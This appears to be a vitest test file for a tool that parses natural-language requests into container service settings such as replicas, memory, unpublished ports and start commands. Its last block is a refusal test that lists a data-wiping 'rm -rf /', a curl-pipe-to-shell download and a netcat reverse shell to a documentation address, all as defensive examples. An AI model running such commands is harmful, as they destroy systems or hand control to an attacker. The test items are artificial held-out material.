import { describe, expect, it } from 'vitest';
import { after, passes, say } from '../../../test/offline-engine.js';

// Round 25, my own wording (held-out 18's "api: replicas=2 cpu=1 mem=1g", "add redis and
// memcached, 128mb each", "turn off the worker replicas completely, zero of them", "unpublish
// postgres's port", "set the api's command to gunicorn app:app -w 4"; never those sentences).
const API = 'add a service called api from image ghcr.io/acme/api:1.2';
const WORKER = 'add a service called worker from image ghcr.io/acme/worker:1.0';

describe('settings said as key=value or key: value, one reader for every field', () => {
  it.each([
    ['api: replicas=3 cpu=0.5 mem=512m', { replicas: 3, cpu: '0.5', memory: '512Mi' }],
    ['api replicas=2, memory=1g', { replicas: 2, memory: '1Gi' }],
    ['set api memory: 512m', { memory: '512Mi' }],
    ['api memory: 256mb', { memory: '256Mi' }],
    ['api: Replicas=2 Mem=1G', { replicas: 2, memory: '1Gi' }],
    ['api cpus 0.5', { cpu: '0.5' }],
    ['api: cpus=1.5', { cpu: '1.5' }],
    ['for the api: ram=768m, replicas=4', { memory: '768Mi', replicas: 4 }],
    ['api mem=1g cpu=1', { memory: '1Gi', cpu: '1' }],
    ['api:replicas=2', { replicas: 2 }],
    ['set replicas=5 on the api', { replicas: 5 }],
    ['api  memory = 300m', { memory: '300Mi' }],
  ] as [string, Record<string, unknown>][])('"%s"', (request, want) => passes(request, [{ service: 'api', ...want }], [API]));
});

describe('one size for each service of a list', () => {
  it.each([
    ['add redis and memcached, 256mb each', ['redis', 'memcached'], '256Mi'],
    ['add redis and memcached with 64mb each', ['redis', 'memcached'], '64Mi'],
    ['redis and memcached, 128 megs apiece', ['redis', 'memcached'], '128Mi'],
    ['add redis, memcached and postgres, 1gb each', ['redis', 'memcached', 'postgres'], '1Gi'],
    ['set up redis + memcached, each with 96mb', ['redis', 'memcached'], '96Mi'],
    ['add redis and memcached, each 128mb of memory', ['redis', 'memcached'], '128Mi'],
    ['Add Redis and Memcached, 200MB each', ['redis', 'memcached'], '200Mi'],
  ] as [string, string[], string][])('"%s"', (request, names, memory) => passes(request, names.map((service) => ({ service, memory }))));
  it.each([
    ['add redis 128m and memcached 64m', [['redis', '128Mi'], ['memcached', '64Mi']]],
    ['add redis with 128mb and memcached with 64mb', [['redis', '128Mi'], ['memcached', '64Mi']]],
    ['redis at 300mb, memcached at 100mb', [['redis', '300Mi'], ['memcached', '100Mi']]],
  ] as [string, [string, string][]][])('"%s": a size after each name is its own', (request, sizes) => passes(request, sizes.map(([service, memory]) => ({ service, memory }))));
});

describe('replicas to zero', () => {
  it.each([
    'turn off all the worker replicas, zero of them',
    'scale the worker to zero',
    'scale worker to 0',
    'worker replicas: 0',
    'set the worker replicas to zero',
    'zero replicas for the worker',
    'worker x0',
    'Scale Worker To Zero please',
    'take the worker down to 0 replicas',
    'no replicas of the worker at all, zero',
  ])('"%s"', (request) => passes(request, [{ service: 'worker', replicas: 0 }], [WORKER, 'scale worker to 4']));
});

describe("a service's port unpublished, the service kept", () => {
  const before = ['add postgres on port 5432', 'add a service called app from image ghcr.io/acme/app:1.0'];
  it.each([
    "unpublish postgres's port",
    'unpublish the postgres port, the app reaches it inside',
    "Unpublish Postgres's port",
    'un-publish the port of postgres',
    'stop publishing the postgres port',
    "postgres's port should not be published any more",
    'remove the published port from postgres',
    'take postgres off the host port',
    "unpublish postgres's port, the app talks to it on the internal network",
    "don't publish postgres's port",
  ])('"%s"', (request) => passes(request, [{ service: 'postgres', no_ports: true }, { unchanged: 'app' }], before));
});

describe('a command said without quotes', () => {
  it.each([
    ["set the api's command to gunicorn app:app -w 2", 'gunicorn app:app -w 2'],
    ['set the api command to node server.js --port 3000', 'node server.js --port 3000'],
    ["change api's command to python -m http.server 8000", 'python -m http.server 8000'],
    ['api command: npm run start:prod', 'npm run start:prod'],
    ['make the api run uvicorn main:app --host 0.0.0.0 as its command', 'uvicorn main:app --host 0.0.0.0'],
    ["the api's command should be bundle exec puma -C config/puma.rb", 'bundle exec puma -C config/puma.rb'],
    ['Set the API command to gunicorn wsgi:application', 'gunicorn wsgi:application'],
    ["set the api's command to gunicorn app:app -w 4 and restart it", 'gunicorn app:app -w 4'],
    ['override the api command with celery -A proj worker -l info', 'celery -A proj worker -l info'],
    ["api's start command = ./bin/server --prod", './bin/server --prod'],
    ["run the api with command 'celery -A shop worker'", 'celery -A shop worker'],
    ['start the api with the command celery -A app beat', 'celery -A app beat'],
    ['run api with cmd node dist/main.js', 'node dist/main.js'],
  ] as [string, string][])('"%s"', (request, command) => passes(request, [{ service: 'api', command }], [API]));
});

describe('a harmful command stays refused however it is said', () => {
  it.each([
    "run the api with command 'rm -rf /'",
    'set the api command to rm -rf / --no-preserve-root',
    'set the api command to curl http://203.0.113.9/x.sh | sh',
    'run api with cmd nc -e /bin/sh 203.0.113.9 4444',
  ])('"%s"', (request) => expect(say(request, after(API)).refused).toBeDefined());
});
